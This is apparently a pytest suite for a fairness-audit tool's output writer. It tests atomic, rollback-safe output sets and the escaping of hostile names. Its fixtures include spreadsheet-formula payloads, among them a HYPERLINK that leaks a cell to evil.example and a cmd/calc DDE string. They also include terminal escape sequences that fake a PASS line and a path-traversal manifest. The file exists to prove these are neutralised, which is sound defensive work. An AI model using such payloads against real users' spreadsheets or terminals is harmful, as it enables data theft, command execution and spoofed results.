"""Writing outputs in hostile conditions, and escaping everything written.

* Outputs switch as one set (lock, staging, manifest): a failing rename, a killed run or two
  runs on one folder never leave an undetectable mix, and an exit-2 run leaves nothing new.
* Nothing auditkit did not write is deleted (``--out`` on the data folder).
* Names from inputs cannot inject: spreadsheet formulas in ``ll144.csv``, terminal escapes on
  stdout, control characters in ``junit.xml`` / ``summary.md``, mathtext in chart labels.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import textwrap
import threading
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from auditkit.cli import cli
from auditkit.errors import AuditkitError, DataError, OutputError
from auditkit.outputs import LOCK_NAME, MANIFEST_NAME, check_output_set, read_manifest, write_file, write_output_set
from auditkit.report import write_outputs
from auditkit.report import render_html, render_json, render_junit, render_summary_md
from policies import MINIMAL_POLICY

HOSTILE = "ok\r\x1b[32m✔ PASS\x1b[0m\x07\u202e\x9b"
SETS = ["junit.xml", "report.html", "results.json", "summary.md"]


@pytest.fixture(scope="module")
def results(demo_dir):
    from auditkit.pipeline import run_audit

    return run_audit(demo_dir / "audit.yaml", explain=False, seed=0).to_dict()


def _copy(results: dict, **changes) -> dict:
    doc = json.loads(json.dumps(results))
    for key, value in changes.items():
        doc[key] = value
    return doc


def _failing(results: dict) -> dict:
    """The same results with every rule failing: a set visibly different from ``results``."""
    doc = _copy(results, status="failed")
    for rule in doc["rules"]:
        rule["status"], rule["gating"] = "fail", True
    doc["summary"] = {**doc.get("summary", {}), "pass": 0, "fail": len(doc["rules"])}
    return doc


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in folder.iterdir() if p.is_file()}


def _strays(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith(".auditkit") and p.name != MANIFEST_NAME)


def _consistent(folder: Path) -> None:
    """The set in ``folder`` is complete and its files agree with each other."""
    check_output_set(folder / "results.json")
    manifest = read_manifest(folder)
    assert manifest["status"] == "complete"
    doc = json.loads((folder / "results.json").read_text(encoding="utf-8"))
    junit = ET.fromstring((folder / "junit.xml").read_bytes())
    suite = junit.find("testsuite")
    failed = sum(1 for r in doc["rules"] if r.get("gating") and r["status"] != "error")
    assert int(suite.get("failures")) == failed
    assert ("PASS" in (folder / "summary.md").read_text(encoding="utf-8").splitlines()[0]) == (doc["status"] == "passed")


def _check(policy: Path, out: Path, *extra, env=None):
    return CliRunner().invoke(cli, ["check", str(policy), "--out", str(out), "--no-explain", *map(str, extra)], env=env)


# ----------------------------------------------------------------- never delete what we did not write


def test_out_on_the_data_folder_never_deletes_user_files(write_policy, demo_copy):
    data = demo_copy / "data"
    (data / "ll144.csv").write_text("sex,rate\nF,0.5\n", encoding="utf-8")
    (data / "ll144.html").write_text("<p>my own summary</p>", encoding="utf-8")
    before = _snapshot(data)
    policy = write_policy(MINIMAL_POLICY)
    for _ in range(2):
        result = _check(policy, data)
        assert result.exit_code == 0, result.output
    after = _snapshot(data)
    for name, content in before.items():
        assert after[name] == content, f"{name} was changed or deleted"
    _consistent(data)


def test_a_stale_ll144_summary_is_removed_only_if_an_earlier_run_wrote_it_unchanged(results, tmp_path):
    out = tmp_path / "out"
    with_ll144 = _copy(results)
    docs = {"ll144.html": "<p>summary</p>", "ll144.csv": "table\nsex\n"}
    write_output_set(out, {**{n: b.decode() for n, b in _rendered(with_ll144).items()}, **docs})
    assert (out / "ll144.csv").exists()
    write_outputs(results, out)  # no LL144 section: the earlier run's files go
    assert not (out / "ll144.csv").exists() and not (out / "ll144.html").exists()

    write_output_set(out, {**{n: b.decode() for n, b in _rendered(with_ll144).items()}, **docs})
    (out / "ll144.csv").write_text("edited by a person\n", encoding="utf-8")
    write_outputs(results, out)
    assert (out / "ll144.csv").read_text(encoding="utf-8") == "edited by a person\n", "a changed file is kept"
    assert not (out / "ll144.html").exists()
    _consistent(out)


def test_a_planted_manifest_cannot_make_auditkit_delete_anything_outside_the_set(results, tmp_path):
    import hashlib

    victim = tmp_path / "victim.csv"
    victim.write_text("precious data\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / "data.csv").write_text("precious data\n", encoding="utf-8")
    sha = hashlib.sha256(b"precious data\n").hexdigest()
    files = [{"name": "../victim.csv", "sha256": sha}, {"name": str(victim), "sha256": sha}]
    (out / MANIFEST_NAME).write_text(json.dumps({"status": "complete", "files": files}), encoding="utf-8")
    with pytest.raises(DataError, match="damaged"):
        read_manifest(out)
    write_outputs(results, out)
    assert victim.read_text(encoding="utf-8") == "precious data\n"
    assert (out / "data.csv").read_text(encoding="utf-8") == "precious data\n"  # never listed by auditkit
    _consistent(out)


def test_a_planted_manifest_naming_a_data_file_cannot_make_auditkit_delete_it(results, tmp_path):
    """A manifest is a file in a folder auditkit does not control: only output names are ever removed."""
    import hashlib

    out = tmp_path / "out"
    out.mkdir()
    precious = b"age,sex\n30,f\n"
    (out / "credit.csv").write_bytes(precious)
    files = [{"name": "credit.csv", "sha256": hashlib.sha256(precious).hexdigest()}]
    (out / MANIFEST_NAME).write_text(json.dumps({"status": "complete", "files": files}), encoding="utf-8")
    write_outputs(results, out)
    assert (out / "credit.csv").read_bytes() == precious
    _consistent(out)


def _rendered(results: dict) -> dict[str, bytes]:
    return {"results.json": render_json(results).encode(), "junit.xml": render_junit(results).encode(),
            "summary.md": render_summary_md(results).encode(), "report.html": b"<p>report</p>"}


# ----------------------------------------------------------------- sets switch as a whole


def test_a_rename_failing_midway_puts_the_previous_set_back(write_policy, tmp_path, monkeypatch):
    out = tmp_path / "out"
    policy = write_policy(MINIMAL_POLICY)
    assert _check(policy, out).exit_code == 0
    before = _snapshot(out)

    real = os.replace
    calls = []

    def flaky(src, dst, *args, **kwargs):
        if Path(dst).parent == out:
            calls.append(Path(dst).name)
            if len(calls) == 3:  # the manifest, one output, then this one
                raise OSError(5, "Input/output error")
        return real(src, dst, *args, **kwargs)

    monkeypatch.setattr(os, "replace", flaky)
    failing = write_policy(MINIMAL_POLICY.replace("min: 0.5", "min: 0.99"), name="failing.yaml")
    result = _check(failing, out)
    monkeypatch.undo()
    assert result.exit_code == 2, result.output
    err = result.stderr.strip()
    assert err.startswith("Error: ") and len(err.splitlines()) == 1 and str(out) in err, err
    assert "Input/output error" in err and "put back" in err
    assert _snapshot(out) == before, "the previous set is intact"
    assert _strays(out) == []
    _consistent(out)


def test_a_first_run_that_fails_to_write_leaves_no_folder(results, tmp_path, monkeypatch):
    out = tmp_path / "new" / "out"
    real = os.replace
    calls = []

    def flaky(src, dst, *args, **kwargs):
        calls.append(dst)
        if len(calls) == 3:
            raise OSError(28, "No space left on device")
        return real(src, dst, *args, **kwargs)

    monkeypatch.setattr(os, "replace", flaky)
    with pytest.raises(OutputError, match="No space left on device"):
        write_outputs(results, out)
    monkeypatch.undo()
    assert not (tmp_path / "new").exists(), sorted(p.name for p in (tmp_path / "new").rglob("*"))


KILLER = textwrap.dedent("""\
    import json, os, sys
    from pathlib import Path
    from auditkit.report import write_outputs

    out = Path(sys.argv[2])
    results = json.loads(Path(sys.argv[1]).read_text(encoding="utf-8"))
    results["status"] = "failed"
    for rule in results["rules"]:
        rule["status"], rule["gating"] = "fail", True
    real, calls = os.replace, []

    def replace(src, dst, *a, **k):
        if Path(dst).parent == out:
            calls.append(dst)
            if len(calls) == 3:
                os._exit(9)  # killed between two renames
        return real(src, dst, *a, **k)

    os.replace = replace
    write_outputs(results, out)
    """)


def test_a_run_killed_between_renames_leaves_a_detectably_mixed_folder(results, tmp_path):
    out = tmp_path / "out"
    write_outputs(results, out)
    saved = tmp_path / "saved.json"
    saved.write_text(render_json(results), encoding="utf-8")
    proc = subprocess.run([sys.executable, "-c", KILLER, str(saved), str(out)], capture_output=True, text=True,
                          timeout=300)
    assert proc.returncode == 9, proc.stderr
    assert read_manifest(out)["status"] == "writing"
    assert any(p.name.startswith(".auditkit-stage-") for p in out.iterdir()), "the killed run's staging folder"
    with pytest.raises(DataError, match=r"mixed or incomplete set of outputs from an interrupted run.*rerun audit check") as caught:
        check_output_set(out / "results.json")
    assert str(out) in str(caught.value)
    for command in (["report", str(out / "results.json"), "-o", str(tmp_path / "again.html")],
                    ["diff", str(out / "results.json"), str(saved)],
                    ["ll144", str(out / "results.json"), "-o", str(tmp_path / "ll")]):
        refused = CliRunner().invoke(cli, command)
        assert refused.exit_code == 2, (command, refused.output)
        assert "interrupted run" in refused.stderr and len(refused.stderr.strip().splitlines()) == 1
    assert not (tmp_path / "again.html").exists()

    write_outputs(results, out)  # the next run repairs the folder and clears the leftovers
    assert _strays(out) == []
    _consistent(out)


def test_check_output_set_accepts_copies_and_refuses_a_foreign_results_file(results, tmp_path):
    out = tmp_path / "out"
    write_outputs(results, out)
    check_output_set(out / "results.json")
    copy = tmp_path / "elsewhere" / "results.json"
    copy.parent.mkdir()
    copy.write_bytes((out / "results.json").read_bytes())
    check_output_set(copy)  # no manifest beside it: read as it is

    (out / "results.json").write_text(render_json(_failing(results)), encoding="utf-8")
    with pytest.raises(DataError, match="results.json is not the file that run wrote"):
        check_output_set(out / "results.json")
    (out / MANIFEST_NAME).write_text("{not json", encoding="utf-8")
    with pytest.raises(DataError, match="damaged"):
        check_output_set(out / "results.json")


def test_rerendering_the_report_in_place_keeps_the_set_whole(results, tmp_path):
    out = tmp_path / "out"
    write_outputs(results, out)
    result = CliRunner().invoke(cli, ["report", str(out / "results.json"), "-o", str(out / "report.html")])
    assert result.exit_code == 0, result.output
    check_output_set(out / "results.json")  # the manifest follows the re-rendered file
    assert _strays(out) == []


def test_two_concurrent_writers_leave_one_consistent_set(results, tmp_path):
    out = tmp_path / "out"
    sets = [{n: render(r) for n, render in (("results.json", render_json), ("junit.xml", render_junit),
                                            ("summary.md", render_summary_md), ("report.html", render_html))}
            for r in (results, _failing(results))]
    errors = []

    def writer(documents):
        try:
            for _ in range(15):
                write_output_set(out, documents)
        except BaseException as exc:  # pragma: no cover - reported below
            errors.append(exc)

    threads = [threading.Thread(target=writer, args=(docs,)) for docs in sets]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors, errors
    assert _strays(out) == []
    _consistent(out)
    assert any(_snapshot(out) == {**{n: d.encode() for n, d in docs.items()},
                                  MANIFEST_NAME: (out / MANIFEST_NAME).read_bytes()} for docs in sets)


def test_concurrent_processes_take_turns(write_policy, tmp_path):
    out = tmp_path / "out"
    policy = write_policy(MINIMAL_POLICY)
    failing = write_policy(MINIMAL_POLICY.replace("min: 0.5", "min: 0.99"), name="failing.yaml")
    procs = [subprocess.Popen([sys.executable, "-m", "auditkit", "check", str(p), "--out", str(out), "--no-explain", "-q"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE) for p in (policy, failing)]
    codes = sorted(p.wait(timeout=600) for p in procs)
    assert codes == [0, 1], [p.stderr.read() for p in procs]
    assert _strays(out) == []
    _consistent(out)


def test_a_run_that_cannot_get_the_lock_fails_naming_the_folder(write_policy, results, tmp_path):
    fcntl = pytest.importorskip("fcntl")
    out = tmp_path / "out"
    write_outputs(results, out)
    before = _snapshot(out)
    with open(out / LOCK_NAME, "w") as handle:
        fcntl.flock(handle.fileno(), fcntl.LOCK_EX)
        result = _check(write_policy(MINIMAL_POLICY), out, env={"AUDITKIT_LOCK_TIMEOUT": "0.3"})
    assert result.exit_code == 2, result.output
    assert "another auditkit run is writing to this folder" in result.stderr and str(out) in result.stderr
    assert {k: v for k, v in _snapshot(out).items() if k != LOCK_NAME} == before


def test_stale_staging_left_by_killed_runs_is_cleared(results, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    stage = out / ".auditkit-stage-20200101T000000-dead"
    (stage / "new").mkdir(parents=True)
    (stage / "new" / "report.html").write_text("half", encoding="utf-8")
    legacy = out / ".auditkit-k2j4h5g6"  # a temporary file of an older auditkit
    legacy.write_text("tmp", encoding="utf-8")
    (out / ".hidden-user-file").write_text("mine", encoding="utf-8")
    (out / "notes.txt").write_text("mine", encoding="utf-8")
    old = 1_000_000_000
    for path in (stage / "new" / "report.html", stage / "new", stage, legacy):
        os.utime(path, (old, old))
    write_outputs(results, out)
    assert _strays(out) == []
    assert (out / ".hidden-user-file").read_text() == "mine" and (out / "notes.txt").read_text() == "mine"


def test_a_render_failure_writes_nothing(results, tmp_path, monkeypatch):
    import auditkit.report.render as render

    monkeypatch.setattr(render, "render_summary_md", lambda *a, **k: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        write_outputs(results, tmp_path / "out")
    assert not (tmp_path / "out").exists()


# ----------------------------------------------------------------- single files


def test_schema_infer_failing_target_leaves_no_temporary_files(demo_copy, tmp_path, monkeypatch):
    data = demo_copy / "data" / "credit.csv"
    target = tmp_path / "contracts" / "draft.yaml"
    target.parent.mkdir()
    target.write_text("# the draft a person is editing\n", encoding="utf-8")

    def broken(src, dst, *args, **kwargs):
        raise OSError(13, "Permission denied")

    monkeypatch.setattr(os, "replace", broken)
    result = CliRunner().invoke(cli, ["schema", "infer", str(data), "-o", str(target), "--force"])
    monkeypatch.undo()
    assert result.exit_code == 2, result.output
    assert "Permission denied" in result.stderr and str(target) in result.stderr
    assert sorted(p.name for p in target.parent.iterdir()) == ["draft.yaml"]
    assert target.read_text(encoding="utf-8") == "# the draft a person is editing\n"

    folder_target = tmp_path / "contracts" / "a-folder"
    folder_target.mkdir()
    result = CliRunner().invoke(cli, ["schema", "infer", str(data), "-o", str(folder_target), "--force"])
    assert result.exit_code == 2 and "is a folder" in result.stderr
    blocked = CliRunner().invoke(cli, ["schema", "infer", str(data), "-o", str(target / "x.yaml")])
    assert blocked.exit_code == 2, blocked.output
    assert sorted(p.name for p in target.parent.iterdir()) == ["a-folder", "draft.yaml"]


def test_write_file_never_overwrites_when_told_not_to(tmp_path):
    target = tmp_path / "audit.yaml"
    write_file(target, "first\n", overwrite=False)
    with pytest.raises(OutputError, match="already exists"):
        write_file(target, "second\n", overwrite=False)
    assert target.read_text() == "first\n"
    write_file(target, "third \ud800\n")  # a lone surrogate is written as a visible escape
    assert target.read_text() == "third \\ud800\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit.yaml"]


def test_rerendering_a_listed_file_in_place_keeps_the_set_consistent(results, tmp_path):
    out = tmp_path / "out"
    write_outputs(results, out)
    write_file(out / "report.html", "<p>re-rendered with a house template</p>")
    check_output_set(out / "results.json")
    entry = next(e for e in read_manifest(out)["files"] if e["name"] == "report.html")
    assert entry["bytes"] == len("<p>re-rendered with a house template</p>")


# ----------------------------------------------------------------- demo


def test_demo_with_a_negative_seed_writes_nothing(tmp_path):
    from auditkit.demo import build_demo

    target = tmp_path / "parent" / "demo"
    result = CliRunner().invoke(cli, ["demo", str(target), "--seed", "-5"])
    assert result.exit_code == 2, result.output
    assert not (tmp_path / "parent").exists()
    with pytest.raises(AuditkitError, match="seed"):
        build_demo(target, seed=-5)
    assert list(tmp_path.iterdir()) == []


def test_demo_failing_midway_leaves_the_folder_as_it_was(tmp_path, monkeypatch):
    import auditkit.demo as demo
    import auditkit.outputs as outputs

    def broken(*args, **kwargs):
        raise RuntimeError("training failed")

    with monkeypatch.context() as patch:  # building fails: nothing was written yet
        patch.setattr(demo, "train_model", broken)
        with pytest.raises(RuntimeError):
            demo.build_demo(tmp_path / "fresh")
    assert list(tmp_path.iterdir()) == []

    real = outputs._write_new

    def disk_full(path, data):
        if path.name.endswith(".skops"):
            raise OSError(28, "No space left on device")
        real(path, data)

    monkeypatch.setattr(outputs, "_write_new", disk_full)
    with pytest.raises(OutputError, match="No space left on device"):
        demo.build_demo(tmp_path / "fresh")
    assert list(tmp_path.iterdir()) == []

    existing = tmp_path / "existing"
    (existing / "data").mkdir(parents=True)
    (existing / "data" / "credit.csv").write_text("old data\n", encoding="utf-8")
    (existing / "mine.txt").write_text("mine", encoding="utf-8")
    with pytest.raises(OutputError, match="No space left on device"):
        demo.build_demo(existing)
    assert sorted(str(p.relative_to(existing)) for p in existing.rglob("*")) == ["data", "data/credit.csv", "mine.txt"]
    assert (existing / "data" / "credit.csv").read_text(encoding="utf-8") == "old data\n"


def test_demo_switch_failing_midway_puts_the_earlier_files_back(tmp_path, monkeypatch):
    import auditkit.demo as demo
    import auditkit.outputs as outputs

    existing = tmp_path / "existing"
    (existing / "data").mkdir(parents=True)
    (existing / "data" / "credit.csv").write_text("old data\n", encoding="utf-8")
    real = os.replace

    def flaky(src, dst, *args, **kwargs):
        if str(dst).endswith("german_credit.yaml"):
            raise OSError(5, "Input/output error")
        return real(src, dst, *args, **kwargs)

    monkeypatch.setattr(outputs.os, "replace", flaky)
    with pytest.raises(OutputError, match="earlier files were put back"):
        demo.build_demo(existing)
    assert sorted(str(p.relative_to(existing)) for p in existing.rglob("*")) == ["data", "data/credit.csv"]
    assert (existing / "data" / "credit.csv").read_text(encoding="utf-8") == "old data\n"


# ----------------------------------------------------------------- CSV injection


def test_ll144_csv_neutralises_spreadsheet_formulas(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    rows = []
    for sex, race, n, selected in (("M", formula, 40, 20), ("F", "+SUM(1,2)", 40, 10), ("@cmd", "-2+3", 40, 15),
                                   ("F", "White", 40, 12)):
        rows += [(sex, race, "yes" if i < selected else "no") for i in range(n)]
    df = pd.DataFrame(rows, columns=["sex", "race", "decision"])
    df["outcome"] = df["decision"]
    df.to_csv(tmp_path / "d.csv", index=False)
    (tmp_path / "audit.yaml").write_text(textwrap.dedent("""\
        version: 1
        extends: [nyc-ll144]
        packs:
          nyc-ll144: {sex: sex, race_ethnicity: race, data_source: "=cmd|' /C calc'!A0"}
        data: {path: d.csv, target: outcome, positive_label: "yes"}
        model: {predictions: {label: decision}}
        fairness: {bootstrap: 0}
        """), encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["check", str(tmp_path / "audit.yaml"), "--out", str(out)])
    assert result.exit_code in (0, 1), result.output
    text = (out / "ll144.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text and "'+SUM(1,2)" in text and "'@cmd" in text and "'-2+3" in text
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only plain numbers may start so
    again = tmp_path / "again"
    rerun = CliRunner().invoke(cli, ["ll144", str(out / "results.json"), "-o", str(again)])
    assert rerun.exit_code == 0, rerun.output
    assert (again / "ll144.csv").read_text(encoding="utf-8") == text


# ----------------------------------------------------------------- terminal injection


def test_terminal_summary_shows_controls_as_escapes(results):
    from auditkit.report.terminal import terminal_summary, verdict_line
    from auditkit.report.writers import OutputPaths

    doc = _copy(results, status="failed")
    doc["policy"]["name"] = "policy\x1b]0;owned\x07" + HOSTILE
    doc["rules"][0].update(id=HOSTILE, status="fail", gating=True, group="\x1b[2Jgroup\u2028two", feature="sex\r")
    doc["explanations"] = {"status": "skipped", "reason": "column \x1b[31mx"}
    out = Path("out\x1b[31m")
    paths = OutputPaths(folder=out, report=out / "report.html", results=out / "results.json", junit=out / "junit.xml",
                        summary=out / "summary.md")
    text = terminal_summary(doc, outputs=paths) + verdict_line(doc)
    for raw in ("\x1b", "\r", "\x07", "\u202e", "\x9b", "\u2028"):
        assert raw not in text
    assert "\\x1b[32m✔ PASS" in text and "\\x0d" in text and "\\u202e" in text
    assert sum(line.startswith("✖ FAIL") for line in text.splitlines()) >= 1


def test_check_stdout_carries_no_raw_escape_sequences(write_policy, tmp_path):
    policy = write_policy(MINIMAL_POLICY.replace("name: minimal", 'name: "evil\\e[32m PASSED\\r"').replace(
        "id: accuracy-floor", 'id: "floor\\r\\e[32m✔ PASS"').replace("min: 0.5", "min: 0.99"))
    for extra in ((), ("-q",)):
        result = _check(policy, tmp_path / "out", *extra)
        assert result.exit_code == 1, result.output
        assert "\x1b" not in result.output and "\r" not in result.output
        assert "evil\\x1b[32m PASSED\\x0d" in result.output


def test_validate_table_shows_controls_as_escapes():
    from types import SimpleNamespace

    from auditkit.cli import _contract_table

    violation = SimpleNamespace(column="age\x1b[2J", check="isin(['\r✔ ok'])", failure_count=3, examples=["\x1b[31mx", 5])
    result = SimpleNamespace(passed=False, violations=[violation], total_failures=3, rows=10, columns_checked=["age"])
    text = _contract_table(result, Path("data\x1b.csv"))
    assert "\x1b" not in text and "\r" not in text and "age\\x1b[2J" in text
    valid = SimpleNamespace(passed=True, rows=10, columns_checked=["a"])
    assert "\x1b" not in _contract_table(valid, Path("data\x1b.csv"))


def test_diff_text_and_markdown_neutralise_controls(results):
    from auditkit.diff import diff_results
    from auditkit.report.diff_render import render_markdown, render_text

    new = _failing(results)
    new["policy"]["name"] = HOSTILE
    new["rules"][0]["id"] = HOSTILE
    new["fairness"]["groups"][0]["group"] = "\x1b[31mred\r"
    diff = diff_results(results, new)
    for text in (render_text(diff), render_markdown(diff)):
        for raw in ("\x1b", "\r", "\x07", "\u202e", "\x9b"):
            assert raw not in text


# ----------------------------------------------------------------- JUnit and Markdown


NAMES = ["".join(map(chr, range(0, 32))) + "\x7f\x85\x9f", "lone \ud800 and \udfff surrogates", "non\ufffecharacters\uffff",
         "bidi \u202e\u2066 and \u2028 line", "<&\"'>]]>"]


@pytest.mark.parametrize("name", NAMES)
def test_junit_parses_whatever_the_names_hold(results, tmp_path, name):
    doc = _failing(results)
    doc["policy"]["name"] = name
    doc["rules"][0]["id"] = name
    doc["rules"][0]["message"] = name
    doc["rules"][0]["rationale"] = name
    doc["provenance"]["finished_at"] = name
    root = ET.fromstring(render_junit(doc))
    assert root.find("testsuite").get("name").startswith("auditkit: ")
    out = tmp_path / "out"
    write_outputs(doc, out)
    ET.fromstring((out / "junit.xml").read_bytes())  # the file on disk, as a CI reader sees it
    assert json.loads((out / "results.json").read_text(encoding="utf-8"))["policy"]["name"] == name


def test_junit_parses_with_a_hostile_policy_folder_name(demo_copy, tmp_path):
    folder = tmp_path / "team\x01\x1b[31m\x7f"
    folder.mkdir()
    policy = MINIMAL_POLICY.replace("name: minimal\n", "").replace("data/credit.csv", str(demo_copy / "data" / "credit.csv"))
    policy = policy.replace("schemas/german_credit.yaml", str(demo_copy / "schemas" / "german_credit.yaml"))
    policy = policy.replace("models/credit_model.skops", str(demo_copy / "models" / "credit_model.skops"))
    (folder / "audit.yaml").write_text(policy, encoding="utf-8")
    out = tmp_path / "out"
    result = _check(folder / "audit.yaml", out)
    assert result.exit_code == 0, result.output
    suite = ET.fromstring((out / "junit.xml").read_bytes()).find("testsuite")
    assert suite.get("name") == "auditkit: team\\x01\\x1b[31m\\x7f"
    assert "\x1b" not in result.output


def test_summary_md_neutralises_controls_in_every_input_value(results):
    doc = _failing(results)
    doc["policy"]["name"] = "# Heading\x1b[31m\u202e\n## injected"
    doc["rules"][0]["id"] = "id`\x1b[2J|"
    doc["rules"][0]["feature"] = "sex\r@team"
    md = render_summary_md(doc)
    for raw in ("\x1b", "\r", "\u202e"):
        assert raw not in md
    assert "\n## injected" not in md and "@team" not in md
    assert md.splitlines()[0].startswith("## ❌ FAIL — \\# Heading\\\\x1b")


def test_chart_labels_are_text_not_mathtext(results):
    doc = _copy(results)
    for group in doc["fairness"]["groups"]:
        group["group"] = "$\\frac{$" + group["group"]
    html = render_html(doc)
    assert "data:image/svg+xml;base64," in html and "$\\frac{$" in html.replace("&#36;", "$")
